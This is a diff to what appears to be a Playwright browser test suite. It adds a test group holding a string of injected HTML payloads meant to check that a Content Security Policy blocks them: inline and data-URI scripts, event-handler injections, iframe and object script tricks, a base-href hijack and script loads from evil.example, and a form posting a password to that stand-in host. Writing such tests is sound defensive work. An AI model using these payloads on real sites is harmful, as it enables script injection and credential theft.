@@ -12,6 +12,7 @@ test.describe("an account whose name is markup", () => {
 
   test.beforeEach(({ server }) => server.addAccount(MARKUP, password));
 
+
   test.describe("in another tab", () => {
     test("is text in what this one says of it", async ({ visitor, page, context, server }) => {
       await visitor.open("/login");
@@ -40,4 +41,26 @@ test.describe("an account whose name is markup", () => {
     expect(await page.evaluate(() => [document.contentType, document.images.length])).toEqual(["application/json", 0]);
     expect(await isHit(page)).toBe(false);
   });
+});
+
+test.describe("what somebody put into a page", () => {
+  test.use({ expectedErrors: /Content Security Policy|Refused to|MIME type/ });
+
+  /** In the document as it arrives, before any script of ours runs. */
+  const INJECTED = `
+    <script>window.hit = 1</script>
+    <script nonce="guessed">window.hit = 2</script>
+    <script src="data:text/javascript,window.hit=3"></script>
+    <script src="https://evil.example/x.js"></script>
+    <script src="/api/me"></script>
+    <img src="x:" onerror="window.hit = 4">
+    <svg onload="window.hit = 5"></svg>
+    <body onpageshow="window.hit = 6">
+    <iframe srcdoc="<script>parent.hit = 7</script>"></iframe>
+    <object data="data:text/html,<script>parent.hit=8</script>"></object>
+    <base href="https://evil.example/">
+    <a id="link" href="javascript:window.hit=9">link</a>
+    <form id="form" action="https://evil.example/"><input name="password" value="secret"></form>
+    <style>body { display: none }</style>`;
+
 });
